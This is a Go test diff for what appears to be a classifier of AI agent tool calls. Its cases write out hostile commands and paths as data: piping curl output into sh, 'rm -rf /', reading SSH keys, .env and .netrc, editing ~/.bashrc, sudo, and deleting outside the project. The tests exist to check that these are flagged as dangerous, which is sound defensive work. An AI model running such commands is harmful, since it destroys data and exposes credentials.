@@ -58,6 +58,7 @@ func TestTools(t *testing.T) {
 		{"AskUserQuestion", `{"questions":["\u202e"]}`, Normal, ""},
 		{"Task", `{"prompt":"x"}`, Normal, ""},
 		{"Skill", `{"skill":"fmt"}`, Normal, "may run shell commands in the skill's text, which ask nobody"},
+		{"Skill", `{"skill":"fmt","args":"~/.ssh/id_rsa"}`, Dangerous, "reads keys or credentials"},
 		{"SlashCommand", `{"command":"/fmt"}`, Normal, "may run shell commands in its text, which ask nobody"},
 		{"SlashCommand", `{"typed":"/fmt","files":["/p/.claude/commands/fmt.md"],"runs":["gofmt -w ."]}`, Normal, "runs the shell commands in the text of what was typed"},
 		{"SlashCommand", `{"typed":"/fmt","files":["/p/.claude/commands/fmt.md"],"runs":["git status","rm -rf /"]}`, Dangerous, "runs the shell commands in the text of what was typed"},
@@ -113,6 +114,34 @@ func TestClassText(t *testing.T) {
 	}
 	if (Risk{}).Class != Normal {
 		t.Error("what nobody has judged must not be safe")
+	}
+}
+
+// A finding says which part of a call it is about, and where that stands.
+func TestWhatAFindingIsAbout(t *testing.T) {
+	for _, c := range []struct {
+		r       Risk
+		why     string
+		element int
+		text    string
+	}{
+		{assessLine(piped(1, run("curl x")), piped(-1, run("sh"))), "runs what comes from the network", 1, "sh"},
+		{assessLine(run("curl -o i.sh https://x/y"), run("sh i.sh")), "runs what comes from the network", 1, "sh i.sh"},
+		{assessLine(run("pgrep aoctl"), run("kill 1"), run("ls")), "ends or stops aoctl", 1, "kill 1"},
+		{assessTool("Read", `{"file_path":".env"}`), readsKeys, 0, ".env"},
+		{assessTool("Write", `{"file_path":"~/.bashrc"}`), "changes a shell start-up file", 0, "~/.bashrc"},
+		{assessTool("Glob", `{"pattern":".env"}`), readsKeys, 0, ".env"},
+		{assessTool("Tool", `{"command":"sudo ls"}`), "runs as another user", 0, "sudo ls"},
+		{assessTool("Tool", `{"a":["x","~/.netrc"]}`), readsKeys, 0, "~/.netrc"},
+		{assessTool("apply_patch", `{"input":"*** Update File: a\n*** Delete File: ../x"}`), "deletes outside the project", 0, "../x"},
+	} {
+		found := false
+		for _, f := range c.r.Findings {
+			found = found || f.Why == c.why && f.Element == c.element && f.Text == c.text
+		}
+		if !found {
+			t.Errorf("%+v; want %q about %d, %q", c.r.Findings, c.why, c.element, c.text)
+		}
 	}
 }
 
